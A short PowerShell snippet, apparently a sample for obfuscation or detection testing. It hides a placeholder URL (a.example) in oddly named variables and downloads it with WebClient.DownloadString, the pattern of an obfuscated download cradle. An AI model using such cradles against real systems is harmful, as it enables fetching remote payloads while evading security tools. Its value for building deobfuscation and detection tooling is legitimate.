${a b}='http://a.exam';${~!@}='ple/p/x.txt'
$wc = New-Object System.Net.WebClient
$wc.DownloadString((${a b}+${~!@}))
